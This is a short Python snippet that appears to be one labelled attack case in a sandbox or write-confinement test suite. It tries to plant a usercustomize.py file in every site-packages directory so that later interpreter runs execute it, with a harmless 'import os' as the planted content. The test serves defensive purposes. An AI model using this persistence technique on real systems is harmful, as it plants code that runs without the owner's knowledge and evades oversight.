# attack: write_usercustomize
# category: write_outside
# kind: write_outside
# describe: persist code into the interpreter's site-packages so later runs execute it
import sys
for d in sys.path:
    if d.endswith(("site-packages", "dist-packages")):
        try:
            with open(d + "/usercustomize.py", "w") as f:
                f.write("import os\n")
            print("planted in", d)
        except OSError as e:
            print(d, e)
